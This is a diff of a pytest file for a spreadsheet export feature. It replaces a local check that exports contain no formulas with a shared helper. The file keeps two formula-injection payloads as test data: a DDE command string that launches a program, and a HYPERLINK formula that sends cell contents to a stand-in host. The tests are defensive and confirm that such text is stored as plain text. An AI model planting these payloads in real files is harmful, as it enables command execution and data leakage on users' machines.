@@ -3,8 +3,6 @@ text (never a live formula), dates stay dates even below a first row without one
 
 import datetime
 import io
-import re
-import zipfile
 
 import pytest
 from openpyxl import load_workbook
@@ -15,6 +13,7 @@ from committees.models import Layer, Position, StationKind, TutoringStation, Vol
 from tests.committees.test_import_helpers import snapshot
 from tests.factories import PersonFactory, PostFactory
 from tests.libreoffice import sheets_as_csv
+from tests.xlsx import assert_no_formula
 
 HYPERLINK = '=HYPERLINK("http://x"&A1,"点我")'
 DDE = "=cmd|' /C calc'!A0"
@@ -64,16 +63,6 @@ def registry(xs):
     return xs
 
 
-def sheet_xml(data: bytes) -> dict[str, str]:
-    with zipfile.ZipFile(io.BytesIO(data)) as archive:
-        return {n: archive.read(n).decode() for n in archive.namelist() if n.startswith("xl/worksheets/")}
-
-
-def no_formula(data: bytes) -> None:
-    for name, xml in sheet_xml(data).items():
-        assert not re.search(r"<(\w+:)?f[ >]", xml), f"a formula in {name}"
-
-
 @pytest.mark.parametrize("slug", sorted(TABLES))
 def test_an_unchanged_export_reads_back_with_no_change_and_no_error(registry, slug):
     table = TABLES[slug]
@@ -97,7 +86,7 @@ def test_text_that_looks_like_a_formula_is_written_as_text(registry, slug):
         export_table(table, registry.dg, user=registry.dg_secretary),
         template_table(table, registry.dg, user=registry.dg_secretary),
     ):
-        no_formula(data)
+        assert_no_formula(data)
         book = load_workbook(io.BytesIO(data))
         codes = {row[1].value: row[1] for row in book[CODES_SHEET].iter_rows(min_row=2)}
         assert codes[DDE].data_type == "s"
